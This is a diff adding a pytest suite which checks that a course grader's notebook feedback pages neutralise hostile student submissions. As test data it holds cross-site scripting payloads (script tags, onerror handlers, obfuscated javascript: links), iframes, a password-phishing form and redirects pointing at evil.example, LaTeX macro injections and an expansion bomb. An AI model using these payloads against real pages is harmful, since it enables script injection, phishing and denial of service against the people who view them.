@@ -1,0 +1,202 @@
+"""Feedback pages show the verdicts and run nothing, whatever a student wrote."""
+
+import itertools
+import re
+import time
+from xml.etree import ElementTree
+
+import nbformat
+import pytest
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
+
+from convgrader.nbgrader_plugin import feedback
+from convgrader.nbgrader_plugin.feedback import MAX_PAGE, POLICY, FeedbackExporter, as_mathml
+from convgrader.notebooks.sanitize import MAX_CELL, harmless
+from tests.helpers.chromium import browser
+from tests.helpers.courses import answer
+
+HOSTILE = {
+    "script": "<script>alert(1)</script>",
+    "image": "<img src=x onerror=alert(1)>",
+    "link": "[click](javascript:alert(1))",
+    "link_reference": "[click][1]\n\n[1]: javascript:alert(1)",
+    "autolink": "<javascript:alert(1)>",
+    "entities": "[click](java&#115;cript&colon;alert(1))",
+    "svg": "<svg onload=alert(1)>",
+    "frame": "<iframe src='//evil.example'></iframe>",
+    "style": "<style>body{display:none}</style>",
+    "form": "<form action='//evil.example'><input name=password></form>",
+    "math": "$\\href{javascript:alert(1)}{x}$",
+    "comment": "<!-- --><base href='//evil.example'>",
+    "macro_link": r"$\DeclareMathOperator{\a}{< a/href=https://evil.example/>}\a$",
+    "macro_refresh": r"$\DeclareMathOperator{\a}{< meta/http-equiv=refresh/content=0;url=https://evil.example/>}\a$",
+    "macro_style": r"$\DeclareMathOperator{\a}{< style>.verdict{display:none}< /style>}\a$",
+    "diagram": "```mermaid\n<img src=x onerror=alert(1)>\n```",
+    "no_picture": "![an attached drawing](attachment:a.svg)",
+    "anchor": "# check-max_pool2d",
+    "tracker": "![](https://evil.example/pixel.png)",
+    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "broken_out_of_code": "`</code><script>alert(1)</script>`\n```\n</pre><script>alert(1)</script>\n```",
+}
+
+
+@pytest.fixture(scope="module")
+def page(generated, here, tmp_path_factory):
+    """The feedback page of a submission in which everything is hostile."""
+    from tests.helpers.grading import copy_of
+
+    course = copy_of(generated, tmp_path_factory.mktemp("feedback") / "course")
+    cells = [
+        f"from IPython.display import *\ndisplay(HTML({text!r}), Javascript('alert(1)'))" for text in HOSTILE.values()
+    ]
+    cells += [
+        f"display({{'text/html': {text!r}, 'image/svg+xml': {text!r}, 'image/png': '\">' + {text!r}}}, raw=True)"
+        for text in HOSTILE.values()
+    ]
+    cells += [f"raise ValueError({text!r})" for text in HOSTILE.values()]
+    cells += [
+        "print('\\x1b]8;;javascript:alert(1)\\x1b\\\\click\\x1b]8;;\\x1b\\\\')",
+        "print('</pre><script>alert(1)</script>')",
+    ]
+    lying = "def max_pool2d(*args, **kwargs):\n    return '<script>alert(1)</script>'"
+    nb = answer(
+        course.released("pooling"), {"max_pool2d": lying, "written-pooling": "\n\n".join(HOSTILE.values())}, cells
+    )
+    nb.cells += [nbformat.v4.new_markdown_cell(text) for text in HOSTILE.values()]
+    nb.cells += [nbformat.v4.new_raw_cell(text, metadata={"raw_mimetype": "text/html"}) for text in HOSTILE.values()]
+    nb.cells[0].metadata["nbgrader"]["grade_id"] = "<script>alert(1)</script>"
+    nb.metadata["title"] = "<script>alert(1)</script>"
+    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "<script>alert(1)</script>"}
+    course.submit("eve", nb)
+    summary = course.grade(pool=here)
+    assert not summary.failures
+    code, log = course.nbgrader("generate_feedback", "pooling")
+    assert code == 0, log
+    return (course.root / "feedback" / "eve" / "pooling" / "pooling.html").read_text()
+
+
+def test_it_has_no_scripts_and_a_policy(page):
+    assert f'content="{POLICY}"' in page
+    assert not re.search(r"<script|<iframe|<form|<base|<object|<embed|<link", page, re.IGNORECASE)
+    refreshing = re.findall(r"<meta[^>]*http-equiv=[\"']?([\w-]+)", page, re.IGNORECASE)
+    assert refreshing == ["Content-Security-Policy"]
+
+
+def test_no_attribute_runs_or_loads(page):
+    tags = re.findall(r"<[a-zA-Z][^<>]*>", page)
+    assert not [tag for tag in tags if re.search(r"\son\w+\s*=", tag)]
+    addresses = [a for tag in tags for a in re.findall(r"(?:href|src|action)\s*=\s*[\"']?([^\"'\s>]*)", tag)]
+    assert not [a for a in addresses if re.match(r"\s*(javascript\s*:|vbscript\s*:|data:text)", a, re.IGNORECASE)]
+    assert not [a for a in addresses if a.startswith("http") and "src" in a]
+
+
+def test_it_shows_the_verdicts(page):
+    assert 'class="verdict"' in page and "0 of 8 points" in page
+
+
+def test_its_list_names_the_tasks(page):
+    assert '<a href="#check-max_pool2d">max_pool2d</a>' in page and ">Test cell</a>" not in page
+
+
+def test_formulas_are_mathml(page):
+    assert "<mtable>" in page and "\\begin{pmatrix}" not in page
+
+
+def test_what_a_student_wrote_can_still_be_read(page):
+    assert "alert(1)" in page and "ValueError" in page
+
+
+def test_a_browser_shows_the_verdicts_and_follows_nothing(page, tmp_path):
+    (tmp_path / "page.html").write_text(page)
+    asked = []
+    with browser() as chromium:
+        tab = chromium.new_page()
+        tab.on("request", lambda request: asked.append(request.url))
+        tab.on("dialog", lambda dialog: asked.append(dialog.message))
+        tab.goto((tmp_path / "page.html").as_uri())
+        tab.wait_for_timeout(500)
+        assert tab.locator(".verdict").first.is_visible()
+        assert not tab.locator("math :is(a, h1, img, meta, style)").count()
+        assert tab.locator("#check-max_pool2d").count() <= 1
+    assert [url for url in asked if not url.startswith("data:")] == [(tmp_path / "page.html").as_uri()]
+
+
+def test_a_missing_picture_is_its_text(page):
+    assert "an attached drawing" in page
+
+
+def rendered(*cells):
+    return FeedbackExporter(template_name="classic").from_notebook_node(new_notebook(cells=list(cells)))[0]
+
+
+def test_an_attached_picture_is_shown_whatever_its_name():
+    cell = new_markdown_cell("![mine](attachment:my%20plot.png)", attachments={"my plot.png": {"image/png": "aGk="}})
+    assert 'alt="mine" src="data:image/png;base64,aGk="' in rendered(cell)
+
+
+LETTERS = "abcdefghijklmnopqrstuvwxyz"
+BOMB = "".join(f"\\def\\{a}{{{{\\{b}}}{{\\{b}}}}}" for a, b in itertools.pairwise(LETTERS)) + r"\def\z{x}\a"
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        r"\DeclareMathOperator{\a}{< h1>48< /h1>}\a",
+        r"\newcommand{\a}{x}\a",
+        r"\newenvironment{a}{x}{y}\begin{a}\end{a}",
+        BOMB,
+        r"\sideset{_a}{_b}{" * 25 + r"\sum" + "}" * 25,
+        r"\LaTeX" * 1000,
+        "{" * 1000,
+    ],
+    ids=["operator", "command", "environment", "bomb", "doubling", "long", "unbalanced"],
+)
+def test_a_formula_that_expands_is_shown_as_it_was_written(formula):
+    started = time.process_time()
+    shown = as_mathml(harmless(formula))
+    assert shown.startswith("$") and "<" not in shown
+    assert time.process_time() - started < 1
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [r"\text{<h1>x</h1>}", r"\unicode{x3c}h1>", r"\style{display:none}{x}", r"\class{verdict}{x}", r"\hspace{999em}"],
+)
+def test_a_formula_has_no_other_elements_and_attributes(formula):
+    shown = as_mathml(formula)
+    assert shown.startswith("<math ")
+    assert not re.search(r"<h1|style|class|999", shown)
+
+
+def test_what_is_not_mathml_is_refused_even_if_a_formula_came_to_it():
+    math = ElementTree.fromstring("<math><mrow><script>1</script></mrow></math>")
+    with pytest.raises(ValueError, match="<script>"):
+        feedback._serialize(math)
+
+
+def test_symbols_and_matrices_are_mathml():
+    shown = as_mathml(harmless(r"\sum_{i<n} \begin{pmatrix}1 & 2\\3 & 4\end{pmatrix}"))
+    assert "<mo>∑</mo>" in shown and "<mo>&lt;</mo>" in shown and shown.count("<mtd>") == 4
+
+
+@pytest.mark.parametrize("unit", [r"\begin{a}", "[a](<b", "[[]]", "![", "[](( ", r"\\[", "[", "a|b\n-|-\n", "$x$ "])
+@pytest.mark.parametrize("size", [MAX_CELL, 1 << 20], ids=["cells", "cell"])
+def test_no_markdown_takes_long(unit, size):
+    text = (unit * size)[:size]
+    cells = [new_markdown_cell(text) for _ in range(max(1, 4 * MAX_PAGE["markdown"] // size))]
+    started = time.process_time()
+    page = rendered(*cells)
+    assert time.process_time() - started < 10
+    assert "pre-wrap" in page
+
+
+@pytest.mark.parametrize("unit", ["a.", "\n ", r"\N{"])
+def test_no_code_takes_long(unit):
+    started = time.process_time()
+    rendered(*[new_code_cell(unit * (MAX_CELL // len(unit))) for _ in range(8)])
+    assert time.process_time() - started < 10
+
+
+def test_what_is_too_long_can_still_be_read():
+    page = rendered(new_markdown_cell("A <b>long</b> answer. " * MAX_CELL), new_markdown_cell("A *short* one."))
+    assert "A &lt;b&gt;long&lt;/b&gt; answer. A" in page and "<em>short</em>" in page
